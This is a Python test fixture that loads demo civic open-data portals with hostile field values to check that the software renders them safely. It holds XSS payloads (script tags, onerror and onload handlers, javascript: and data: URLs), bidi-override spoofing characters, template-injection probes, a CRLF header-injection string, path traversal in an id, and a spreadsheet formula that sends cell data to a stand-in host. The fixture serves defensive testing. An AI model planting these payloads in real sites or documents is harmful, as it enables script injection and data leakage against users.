"""Texts that a portal's editor may write to harm who reads them. `RAN` is what a script would leave behind."""

from __future__ import annotations

from typing import Any

from civicgauge.demo.server import DemoPortals

RAN = "walkedByAScript"
_SCRIPT = f"<script>window.{RAN}=1;alert('ran')</script>"
_PICTURE = f'"><img src=x onerror="window.{RAN}=1;alert(\'ran\')">'
_BREAK_OUT = f"'\"--></style></title></textarea></script><svg onload=alert('ran')>{_SCRIPT}"
_TURNED = "\u202egnp.exe\u202c \u2066Budget\u2069 \u200f\u0000\u0007 \ufeff"
_FORMULA = '=HYPERLINK("http://elsewhere.example/?"&A1,"Budget")'
_LONG = "Long " * 200_000

RECORDS: dict[str, dict[str, Any]] = {
    "c2pd-7hqm": {
        "title": _PICTURE,
        "description": _SCRIPT,
        "columns": f"Call{_SCRIPT} | Text | {_PICTURE}\nReceived | Calendar date | day\nNature | Text | | A; B",
    },
    "e6rk-3wjx": {"title": _TURNED, "description": f"[click](javascript:alert('ran')) {_TURNED}", "license": _PICTURE},
    "u9fb-4tzg": {"title": _LONG, "description": _LONG, "attribution": _LONG[:5000]},
    "k5vn-8yec": {"title": _BREAK_OUT, "attribution": _PICTURE, "frequency": _SCRIPT, "tags": [_SCRIPT, _PICTURE]},
    "m3xq-6dbs": {"title": "{{7*7}}${7*7}<%= 7*7 %>", "description": "javascript:alert('ran')"},
    "p8wt-2gkh": {"title": _FORMULA, "license": "javascript:alert('ran')"},
}
MAPS: dict[str, dict[str, Any]] = {
    "trail-map": {"resources": [{"name": _PICTURE, "format": _SCRIPT, "hosted": "", "url": "javascript:alert('ran')"}]},
    "traffic-signals": {
        "title": "\x1b[31mred\x1b[0m\r\nSet-Cookie: a=b",
        "resources": [{"name": _TURNED, "format": "CSV", "hosted": "", "url": f"data:text/html,{_SCRIPT}"}],
    },
    "bike-racks": {"resources": [{"name": "a", "format": "CSV", "hosted": "", "url": "http://a@elsewhere.example/x"}]},
}
PEOPLES = f"{_BREAK_OUT} {_TURNED}"
"""What people write of an edition or a decision may harm as well."""
ODD_ID = f"../..//{_SCRIPT}?a=b#c%2e\u202e"


def spoil(portals: DemoPortals) -> None:
    """Let the two portals of Cedar Junction say all this."""
    for dataset_id, values in RECORDS.items():
        portals.change("cedar-junction-records", "edit", dataset_id, **values)
    for name, values in MAPS.items():
        portals.change("cedar-junction-maps", "edit", name, **values)
    odd = {"name": "odd", "title": "An odd id", "organization": "parks", "resources": []}
    portals.change("cedar-junction-maps", "add", ODD_ID, **odd)
